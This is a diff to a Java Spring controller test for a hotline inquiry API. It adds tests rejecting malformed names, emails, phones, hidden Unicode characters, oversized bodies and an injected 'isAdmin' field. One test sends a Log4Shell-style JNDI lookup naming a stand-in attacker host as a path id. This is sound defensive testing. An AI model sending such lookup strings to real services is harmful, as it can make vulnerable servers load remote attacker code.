@@ -6,7 +6,7 @@ import java.time.Instant;
 import java.time.ZoneOffset;
 import java.util.concurrent.CompletableFuture;
 
-import org.homecoming.platform.web.ProblemResponses;
+import org.homecoming.platform.web.WebInputRules;
 import org.junit.jupiter.api.Test;
 import org.springframework.beans.factory.annotation.Autowired;
 import org.springframework.boot.test.context.TestConfiguration;
@@ -38,7 +38,7 @@ import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.
 
 @WithMockUser(username = "hotline-3", roles = Roles.HOTLINE_OPERATOR)
 @WebMvcTest(InquiryController.class)
-@Import({InquiryService.class, InquiryBook.class, ProblemResponses.class, InquiryControllerTest.FixedClock.class})
+@Import({InquiryService.class, InquiryBook.class, WebInputRules.class, InquiryControllerTest.FixedClock.class})
 class InquiryControllerTest {
 
     static final String VALID = """
@@ -209,5 +209,69 @@ class InquiryControllerTest {
         mvc.perform(get("/api/v1/inquiries/" + id).with(user("hotline-3").roles(Roles.HOTLINE_OPERATOR)))
                 .andExpect(jsonPath("$.relative.email").value("olena@example.org"));
         verify(audit).contactDataRead(id, "hotline-3");
+    }
+
+    @Test
+    void shouldRefuseMoreThanTenNamesOfTheSoughtPerson() throws Exception {
+        String name = "{\"surname\": \"Петренко\", \"givenName\": \"Олександр\"}";
+        for (int count : new int[]{11, 3_000}) {
+            mvc.perform(post("/api/v1/inquiries").contentType(MediaType.APPLICATION_JSON)
+                            .content(VALID.replaceFirst("\"names\": \\[", "\"names\": [" + (name + ",").repeat(count - 1))))
+                    .andExpect(status().isBadRequest())
+                    .andExpect(jsonPath("$.errors[*].field", containsInAnyOrder("sought.names")));
+        }
+        verify(kafka, never()).executeInTransaction(any());
+    }
+
+    @Test
+    void shouldRefuseAddressesNoMailOrPhoneCanReach() throws Exception {
+        for (String email : new String[]{"a,b@example.invalid", "Olena <olena@example.org>", "olena@localhost", "olena@@example.org",
+                "\\\"o l\\\"@example.org"}) {
+            mvc.perform(post("/api/v1/inquiries").contentType(MediaType.APPLICATION_JSON)
+                            .content(VALID.replace("olena@example.org", email)))
+                    .andExpect(status().isBadRequest())
+                    .andExpect(jsonPath("$.errors[*].field", containsInAnyOrder("relative.email")));
+        }
+        for (String phone : new String[]{"+380001234567", "+999123456789", "+38050123456789"}) {
+            mvc.perform(post("/api/v1/inquiries").contentType(MediaType.APPLICATION_JSON)
+                            .content(VALID.replace("+380501234567", phone)))
+                    .andExpect(status().isBadRequest())
+                    .andExpect(jsonPath("$.errors[*].field", containsInAnyOrder("relative.phone")));
+        }
+        verify(kafka, never()).executeInTransaction(any());
+    }
+
+    @Test
+    void shouldRefuseHiddenCharactersUnknownFieldsAndAbsurdDates() throws Exception {
+        mvc.perform(post("/api/v1/inquiries").contentType(MediaType.APPLICATION_JSON)
+                        .content(VALID.replace("\"Петренко\", \"givenName\": \"Олександр\", \"patronymic\"",
+                                "\"Петренко\\u202E\", \"givenName\": \"Олек\\u200Dсандр\", \"patronymic\"")))
+                .andExpect(status().isBadRequest())
+                .andExpect(jsonPath("$.errors[*].field", containsInAnyOrder("sought.names[0].surname", "sought.names[0].givenName")));
+        mvc.perform(post("/api/v1/inquiries").contentType(MediaType.APPLICATION_JSON)
+                        .content(VALID.replace("\"Олена Петренко\"", "\"Олена\\u0000\"")))
+                .andExpect(status().isBadRequest())
+                .andExpect(jsonPath("$.errors[0].field").value("relative.name"));
+        mvc.perform(post("/api/v1/inquiries").contentType(MediaType.APPLICATION_JSON)
+                        .content(VALID.replace("\"wife\",", "\"wife\", \"isAdmin\": true,")))
+                .andExpect(status().isBadRequest())
+                .andExpect(jsonPath("$.errors[0].field").value("relative.isAdmin"));
+        mvc.perform(post("/api/v1/inquiries").contentType(MediaType.APPLICATION_JSON)
+                        .content(VALID.replace("2024-02-01", "-999999999-01-01").replace("1990-04-12", "+999999999-12-31")))
+                .andExpect(status().isBadRequest())
+                .andExpect(jsonPath("$.errors[*].field", containsInAnyOrder("sought.birthDate", "sought.captureDate")));
+        verify(kafka, never()).executeInTransaction(any());
+    }
+
+    @Test
+    void shouldAnswer413ToAnInquiryOverTheBodyLimitAnd400ToABadId() throws Exception {
+        mvc.perform(post("/api/v1/inquiries").contentType(MediaType.APPLICATION_JSON)
+                        .content(VALID.replace("72nd brigade", "x".repeat(1_100_000))))
+                .andExpect(status().isPayloadTooLarge())
+                .andExpect(content().contentTypeCompatibleWith(MediaType.APPLICATION_PROBLEM_JSON));
+        mvc.perform(get("/api/v1/inquiries/{id}", "${jndi:ldap:evil.example}"))
+                .andExpect(status().isBadRequest())
+                .andExpect(jsonPath("$.errors[0].field").value("inquiryId"));
+        verify(kafka, never()).executeInTransaction(any());
     }
 }
